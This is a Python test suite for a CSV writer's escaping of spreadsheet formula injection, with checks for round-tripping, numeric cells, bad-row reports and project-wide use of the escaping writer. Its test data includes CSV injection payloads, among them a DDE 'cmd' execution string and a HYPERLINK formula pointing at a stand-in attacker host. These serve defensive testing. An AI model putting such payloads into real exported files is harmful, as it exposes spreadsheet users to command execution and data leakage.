from __future__ import annotations

import re
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nurture.formats.csv_reader import open_rows
from nurture.formats.csv_writer import CsvWriter, escape_formula, unescape_formula
from nurture.formats.rejected_rows import BadRow, BadRowReport

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "-2-3",
    "@SUM(1)",
    "=cmd|'/ccalc'!a0@evil.example",
    '=HYPERLINK("http://evil.example/?x=","click")',
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\u2019=1+1",
    "\t=1+1",
    "\tplain",
    "\rplain",
    "\n=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1+cmd",
    "\uff0d1+cmd",
    "\uff20SUM(1)",
    "+49 40 1|cmd",
    "+SUM(1;2)",
    "-cmd",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a; '=1+1",
)
PLAIN = (
    "+49",
    "+49 40 123456",
    "+49 (0)40/123-456",
    "+1-555-010-0000",
    "-5",
    "-5.25",
    "-1.234,50",
    "+3",
    "-",
    "--",
    "",
    "5",
    "Ann",
    "O'Neil",
    "'s-Hertogenbosch B.V.",
    "a=b",
    "ann@example.com",
    "2026-03-04",
    "Hello, -5 it is",
)
text = st.text(max_size=40)
signs = st.text(st.sampled_from(" '\"=+-@\t\r\n;,5a\uff1d\u00a0"), max_size=12)


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_starts_with_a_formula_under_any_delimiter(cell: str) -> None:
    for part in re.split(r"[;\t\r\n]", escape_formula(cell)):
        assert not re.match('[\\s"\u00a0\ufeff\0\u2019]*[=+\\-@\uff1d\uff0b\uff0d\uff20]', part)
    assert escape_formula(cell)[:1] not in ("\t", "\r", "\n")
    assert unescape_formula(escape_formula(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_numbers_phones_dashes_and_names_are_not_escaped(cell: str) -> None:
    assert (escape_formula(cell), unescape_formula(cell)) == (cell, cell)


@given(st.one_of(text, signs))
def test_unescaping_reverses_escaping(cell: str) -> None:
    assert unescape_formula(escape_formula(cell)) == cell
    assert escape_formula(cell).replace("'", "") == cell.replace("'", "")


def test_numbers_in_a_numeric_column_stay_numbers() -> None:
    written = StringIO()
    CsvWriter(written, lineterminator="\n").write_rows([("share", -0.5), ("=share", -5), (None, 1)])
    assert written.getvalue() == "share,-0.5\n'=share,-5\n,1\n"


letters = st.characters(exclude_characters="\0\ufffd\r", exclude_categories=["Cs"])
cells = signs.map(lambda one: one.replace("\r", "")) | st.text(letters, max_size=12)


@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=8))
def test_a_report_of_bad_rows_is_read_back_unchanged(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str]]
) -> None:
    path = tmp_path_factory.getbasetemp() / "some.bad-rows.csv"
    with BadRowReport(path, ("Email", "=Company")) as report:
        for line, row in enumerate(rows, 2):
            report.add(BadRow.trimmed(line, f"{row[0]!r} is none", row))
    with open_rows(path, lambda names: "Email" in names) as again:
        assert again.header == ("line", "reason", "Email", "=Company")
        found = [tuple(row[1]) for row in again if not isinstance(row, BadRow)]
    assert found == [(str(line), f"{row[0]!r} is none", *row) for line, row in enumerate(rows, 2)]


def test_a_broken_line_of_a_report_is_not_escaped_twice(tmp_path: Path) -> None:
    path = tmp_path / "a.bad-rows.csv"
    path.write_text("line,reason,Email,Company\n2,x,'=1,too,wide\n3,x,'=2,\"open\n", "utf-8")
    assert [row.cells[2] for row in open_rows(path) if isinstance(row, BadRow)] == ["=1", "=2"]


def test_files_of_other_systems_are_not_unescaped(tmp_path: Path) -> None:
    path = tmp_path / "theirs.csv"
    path.write_text("Email,Company\nann@example.com,'=1\n", "utf-8")
    assert list(open_rows(path)) == [(2, ["ann@example.com", "'=1"])]


def test_all_csv_files_are_written_by_the_escaping_writer() -> None:
    root = Path(__file__).parents[2]
    writers = {
        path.relative_to(root).as_posix()
        for folder in ("nurture", "flows")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b|from csv import", path.read_text("utf-8"))
    }
    assert writers == {"nurture/formats/csv_writer.py"}
